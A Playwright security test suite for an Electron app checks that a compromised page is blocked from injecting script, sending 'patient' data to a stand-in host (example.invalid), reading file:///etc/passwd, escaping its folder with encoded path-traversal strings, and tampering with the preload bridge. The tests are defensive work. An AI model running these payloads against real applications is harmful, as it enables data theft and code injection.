// What a page that has been taken over tries, one attack a row; each must be stopped by the wall that is named.
import type { Page } from "@playwright/test";
import { expect, test } from "./fixture.ts";

/** Runs in the page. Gives what came of the attack, "through" when nothing stopped it. */
type Attack = () => unknown;

interface Row {
  readonly attack: Attack;
  /** The directive whose violation is reported, where the wall is the content security policy. */
  readonly directive?: RegExp;
}

const types = /require-trusted-types-for|trusted-types/;
const groups: Readonly<Record<string, Readonly<Record<string, Row>>>> = {
  "makes code": {
    "text as markup": { attack: () => void (document.body.innerHTML = "<b>x</b>"), directive: types },
    "text written into the document": { attack: () => document.write("<b>x</b>"), directive: types },
    "a script element with text": {
      attack: () => {
        const script = document.createElement("script");
        script.text = "globalThis.reached = true";
        document.body.append(script);
      },
      directive: types,
    },
    "a script element from elsewhere": {
      attack: () => {
        const script = document.createElement("script");
        script.src = "https://example.invalid/x.js";
        document.body.append(script);
      },
      directive: types,
    },
    eval: { attack: () => (0, eval)("globalThis.reached = true"), directive: /script-src|trusted-types/ },
    "a function from text": {
      attack: () => new Function("globalThis.reached = true")(),
      directive: /script-src|trusted-types/,
    },
    "a timer with text": {
      attack: () => setTimeout("globalThis.reached = true" as never),
      directive: /script-src|trusted-types/,
    },
    "a module from text": {
      attack: () => import("data:text/javascript,globalThis.reached=true" as string),
      directive: /script-src/,
    },
    "a module from elsewhere": {
      attack: () => import("https://example.invalid/x.js" as string),
      directive: /script-src/,
    },
    "a handler as an attribute": {
      attack: () => {
        const button = document.createElement("button");
        button.setAttribute("onclick", "globalThis.reached = true");
        document.body.append(button);
        button.click();
        button.remove();
      },
      directive: /script-src|trusted-types/,
    },
    "an address that is a script": {
      attack: () => {
        const link = document.createElement("a");
        link.href = "javascript:globalThis.reached=true";
        document.body.append(link);
        link.click();
        link.remove();
      },
      directive: /script-src|trusted-types/,
    },
    "compiled code": {
      attack: () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
      directive: /script-src/,
    },
    "a second policy for text": {
      attack: () =>
      (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy(
        "other", { createHTML: (text: string) => text },
      ), // prettier-ignore
      directive: types,
    },
    "another policy by the same name": {
      attack: () =>
      (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy(
        "default", { createHTML: (text: string) => text },
      ), // prettier-ignore
      directive: types,
    },
  },
  "reaches out": {
    "a worker": { attack: () => new Worker("main.js"), directive: /worker-src|trusted-types/ },
    "a shared worker": { attack: () => new SharedWorker("main.js"), directive: /worker-src|trusted-types/ },
    "a service worker": {
      attack: () => navigator.serviceWorker.register("main.js"),
      directive: /worker-src|trusted-types/,
    },
    "a fetch": { attack: () => fetch("https://example.invalid/?patient"), directive: /connect-src/ },
    "a fetch of a file": { attack: () => fetch("file:///etc/passwd"), directive: /connect-src/ },
    "a request": {
      attack: () =>
        new Promise((resolve, reject) => {
          const request = new XMLHttpRequest();
          request.onload = resolve;
          request.onerror = reject;
          request.open("POST", "https://example.invalid/");
          request.send("patient");
        }),
      directive: /connect-src/,
    },
    "a socket": {
      attack: () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket("wss://example.invalid/");
          socket.onopen = resolve;
          socket.onerror = reject;
        }),
      directive: /connect-src/,
    },
    "an event source": {
      attack: () =>
        new Promise((resolve, reject) => {
          const source = new EventSource("https://example.invalid/");
          source.onopen = resolve;
          source.onerror = reject;
        }),
      directive: /connect-src/,
    },
    "a beacon": {
      attack: () => {
        navigator.sendBeacon("https://example.invalid/", "patient");
        throw new Error("only the violation tells");
      },
      directive: /connect-src/,
    },
  },
  "loads and shows what is not ours": {
    "a picture from elsewhere": {
      attack: () =>
        new Promise((resolve, reject) => {
          const image = new Image();
          image.onload = resolve;
          image.onerror = reject;
          image.src = "https://example.invalid/?patient";
        }),
      directive: /img-src/,
    },
    "a picture from text": {
      attack: () =>
        new Promise((resolve, reject) => {
          const image = new Image();
          image.onload = resolve;
          image.onerror = reject;
          image.src = "data:image/gif;base64,R0lGODlhAQABAAAAACw=";
        }),
      directive: /img-src/,
    },
    "a font from elsewhere": {
      attack: () => new FontFace("x", "url(https://example.invalid/x.woff2)").load(),
      directive: /font-src/,
    },
    "a style from text": {
      attack: () => {
        const style = document.createElement("style");
        style.textContent = "body { visibility: hidden }";
        document.head.append(style);
        const hidden = getComputedStyle(document.body).visibility === "hidden";
        style.remove();
        if (!hidden) throw new Error("the style has no effect");
      },
      directive: /style-src/,
    },
    "a style sheet from elsewhere": {
      attack: () =>
        new Promise((resolve, reject) => {
          const sheet = document.createElement("link");
          sheet.rel = "stylesheet";
          sheet.onload = resolve;
          sheet.onerror = reject;
          sheet.href = "https://example.invalid/x.css";
          document.head.append(sheet);
        }),
      directive: /style-src/,
    },
    "a film": {
      attack: () =>
        new Promise((resolve, reject) => {
          const film = document.createElement("video");
          film.onloadeddata = resolve;
          film.onerror = reject;
          film.src = "https://example.invalid/x.mp4";
        }),
      directive: /media-src|default-src/,
    },
    "an embedded object": {
      attack: () =>
        new Promise((resolve, reject) => {
          const object = document.createElement("object");
          object.onload = resolve;
          object.onerror = reject;
          object.data = "index.html";
          document.body.append(object);
        }),
      directive: /object-src|default-src|frame-src|trusted-types/,
    },
    "a frame of our own page": {
      attack: () => {
        const frame = document.createElement("iframe");
        frame.src = "index.html";
        document.body.append(frame);
        throw new Error("only the violation tells");
      },
      directive: /frame-src|frame-ancestors/,
    },
    "a frame from text": {
      attack: () => {
        const frame = document.createElement("iframe");
        frame.srcdoc = "<script>parent.reached = true</script>";
        document.body.append(frame);
      },
      directive: types,
    },
    "another base address": {
      attack: () => {
        const base = document.createElement("base");
        base.href = "https://example.invalid/";
        document.head.append(base);
        const moved = !document.baseURI.startsWith(location.origin);
        base.remove();
        if (!moved) throw new Error("the base has not moved");
      },
      directive: /base-uri/,
    },
    "a form sent elsewhere": {
      attack: () => {
        const form = document.createElement("form");
        form.action = "https://example.invalid/";
        form.method = "post";
        document.body.append(form);
        form.submit();
        form.remove();
        throw new Error("only the violation tells");
      },
      directive: /form-action/,
    },
  },
  "asks for more than a page has": {
    "another window": { attack: () => refuseGone(window.open("https://example.invalid/")) },
    "another window on our own page": { attack: () => refuseGone(window.open("index.html")) },
    "the camera": { attack: () => navigator.mediaDevices.getUserMedia({ video: true }) },
    "the screen": { attack: () => navigator.mediaDevices.getDisplayMedia() },
    "the place": {
      attack: () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
    },
    "the clipboard": { attack: () => navigator.clipboard.readText() },
    "a notification": {
      attack: async () => {
        if ((await Notification.requestPermission()) !== "granted") throw new Error("denied");
      },
    },
    "another call in place of ours": {
      attack: () => {
        "use strict";
        (window as unknown as { wardkeep: { call: unknown } }).wardkeep.call = () => "replaced";
      },
    },
    "another object in place of ours": {
      attack: () => {
        "use strict";
        (window as unknown as { wardkeep: unknown }).wardkeep = {};
      },
    },
  },
};

/** Serialised with the attacks that need it: a window was opened only if it is there a moment later. */
async function refuseGone(opened: Window | null): Promise<void> {
  await new Promise((done) => setTimeout(done, 500));
  if (opened === null || opened.closed) throw new Error("no window is open");
}

interface Outcome {
  readonly outcome: string;
  readonly violations: string;
  readonly reached: boolean;
}

/** Runs an attack as the page's own code: from a timer, where nothing of the driver's freedom to evaluate is left. */
function tryInPage(page: Page, attack: Attack): Promise<Outcome> {
  return page.evaluate(
    async ([text, helper]) => {
      const violations: string[] = [];
      const hear = (event: SecurityPolicyViolationEvent): void => void violations.push(event.effectiveDirective);
      document.addEventListener("securitypolicyviolation", hear);
      const made = (0, eval)(`${helper}; (${text})`) as () => unknown;
      const pause = (milliseconds: number): Promise<string> =>
        new Promise((done) => setTimeout(() => done("stopped: nothing came of it"), milliseconds));
      const attempt = new Promise<void>((start) => setTimeout(start, 0)).then(made).then(
        () => "through",
        (error: unknown) => `stopped: ${String((error as Error).message ?? error)}`,
      );
      const outcome = await Promise.race([attempt, pause(2_000)]);
      await pause(100);
      document.removeEventListener("securitypolicyviolation", hear);
      return { outcome, violations: violations.join(" "), reached: "reached" in globalThis };
    },
    [attack.toString(), refuseGone.toString()] as const,
  );
}

for (const [group, attacks] of Object.entries(groups)) {
  test(`a page that has been taken over: ${group}`, async ({ page, app }) => {
    const before = app.windows().length;
    for (const [name, { attack, directive }] of Object.entries(attacks)) {
      await test.step(name, async () => {
        const { outcome, violations, reached } = await tryInPage(page, attack);
        expect.soft(reached, `${name}: the attacker's code ran`).toBe(false);
        if (directive === undefined) expect.soft(outcome, name).toMatch(/^stopped/);
        else expect.soft(violations, name).toMatch(directive);
        expect.soft(app.windows().length, `${name}: a window was opened`).toBe(before);
      });
    }
  });
}

test("a page stays where it is, wherever it goes", async ({ page, app }) => {
  const addresses = [
    "https://example.invalid/",
    "http://127.0.0.1:9/",
    "data:text/html,x",
    "file:///etc/passwd",
    "main.js",
  ];
  for (const address of addresses) {
    await page.evaluate((to) => void setTimeout(() => (location.href = to), 0), address);
    await page.waitForTimeout(400);
    const shown = await app.evaluate(({ BrowserWindow }) =>
      BrowserWindow.getAllWindows().map((window) => window.webContents.getURL()),
    );
    expect.soft(shown, address).toEqual(["app://wardkeep/index.html"]);
    expect.soft(await page.evaluate(() => "wardkeep" in window), address).toBe(true);
  }
});

test("a page reaches no file outside its folder", async ({ page }) => {
  const paths = [
    "/../command.js", "/%2e%2e/command.js", "/%2e%2e%2fcommand.js", "/..%5ccommand.js", "/%00", "/index.html%00.js", "//main.js", "/package.json", "/.",
  ]; // prettier-ignore
  const statuses = await page.evaluate(
    (all) =>
      Promise.all(
        all.map((path) =>
          fetch(new URL(location.origin + path)).then(
            (reply) => reply.status,
            () => 0,
          ),
        ),
      ),
    paths,
  );
  expect(statuses).toEqual(paths.map(() => 404));
});

test("a page finds nothing of Node, of Electron or of the preload's world", async ({ page }) => {
  const found = await page.evaluate(() => {
    const names = [
      "require",
      "process",
      "module",
      "Buffer",
      "global",
      "ipcRenderer",
      "electron",
      "contextBridge",
      "__dirname",
    ];
    return names.filter((name) => name in globalThis);
  });
  expect(found).toEqual([]);
  const offered = await page.evaluate(() => {
    const { wardkeep } = window as unknown as { wardkeep: Record<string, unknown> };
    return {
      frozen: Object.isFrozen(wardkeep),
      members: Object.entries(wardkeep).map(([name, value]) => `${name}: ${typeof value}`),
    };
  });
  expect(offered).toEqual({ frozen: true, members: ["contract: number", "call: function", "listen: function"] });
});

test("a listener is handed the event of the core and nothing of Electron's", async ({ page, app }) => {
  const heard = page.evaluate(
    () =>
      new Promise((done) => {
        const { wardkeep } = window as unknown as {
          wardkeep: { listen(hear: (...words: unknown[]) => void): () => void };
        };
        const stop = wardkeep.listen((...words) => {
          stop();
          done(words);
        });
      }),
  );
  await page.waitForTimeout(100);
  await app.evaluate(({ BrowserWindow }) => {
    BrowserWindow.getAllWindows()[0]?.webContents.send("wardkeep:event", { event: "changed", what: "people" });
  });
  expect(await heard).toEqual([{ event: "changed", what: "people" }]);
});

test("messages that are no calls are refused, whatever their shape and size, and the window goes on", async ({
  page,
}) => {
  const codes = await page.evaluate(async () => {
    const { wardkeep } = window as unknown as {
      wardkeep: { call(request: unknown): Promise<{ refusal?: { code: string } }> };
    };
    const request = (input: unknown, more: object = {}): object => ({
      contract: 1, call: "vault.state", session: null, purpose: null, input, ...more,
    }); // prettier-ignore
    let deep: unknown = 0;
    for (let depth = 0; depth < 500; depth++) deep = [deep];
    const cycle: { self?: unknown } = {};
    cycle.self = cycle;
    const shapes = [
      undefined, null, 1, "vault.state", [], {}, request(new Map()), request(new Date()), request(new Uint8Array(9)), request(1n),
      request(deep), request(cycle), request("x".repeat(17_000_000)), request(Array.from({ length: 200_001 }, () => 0)),
      request({}, { contract: 2 }), request({}, { more: 1 }),
    ]; // prettier-ignore
    const attempt = async (shape: unknown): Promise<string> => {
      try {
        return (await wardkeep.call(shape)).refusal?.code ?? "through";
      } catch {
        return "malformedCall"; // what cannot even cross
      }
    };
    const codes = await Promise.all(shapes.map(attempt));
    const unknown = await wardkeep.call(request({}, { call: "constructor" }));
    const usual = await wardkeep.call(request({}));
    return {
      passed: codes.flatMap((code, place) => (code === "malformedCall" ? [] : [`${place}: ${code}`])),
      unknown: unknown.refusal?.code,
      usual: "value" in usual,
    };
  });
  expect(codes).toEqual({ passed: [], unknown: "unknownCall", usual: true });
});

test("a page cannot name the files of an import", async ({ page, app }) => {
  const asked = await app.evaluateHandle(({ dialog }) => {
    const calls: unknown[] = [];
    dialog.showOpenDialog = ((...words: unknown[]) => {
      calls.push(words.at(-1));
      return Promise.resolve({ canceled: true, filePaths: [] });
    }) as typeof dialog.showOpenDialog;
    return calls;
  });
  const reply = await page.evaluate(() => {
    const { wardkeep } = window as unknown as { wardkeep: { call(request: unknown): Promise<unknown> } };
    return wardkeep.call({
      contract: 1,
      call: "import.start",
      session: null,
      purpose: null,
      input: { files: ["/etc/passwd"] },
    });
  });
  expect(reply).toEqual({ refusal: { code: "cancelled", facts: {} } });
  expect(await asked.evaluate((calls) => calls.length)).toBe(1);
});
